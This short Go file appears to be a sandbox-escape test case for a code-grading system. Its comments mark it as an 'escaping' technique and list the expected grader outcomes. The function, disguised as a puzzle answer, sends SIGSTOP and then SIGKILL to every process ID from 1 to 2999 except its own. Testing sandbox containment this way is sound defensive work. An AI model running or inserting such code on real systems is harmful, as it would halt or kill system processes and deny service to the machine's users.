// technique: kills and stops every process it can name
// class: escaping
// expect: wrong_answer, runtime_error, timed_out
// form: program
// limits: wall_s=3
import "syscall"

func TideTurns(levels []int) int {
    for _, signal := range []syscall.Signal{syscall.SIGSTOP, syscall.SIGKILL} {
        for pid := 1; pid < 3000; pid++ {
            if pid != syscall.Getpid() {
                syscall.Kill(pid, signal)
            }
        }
    }
    return 0
}
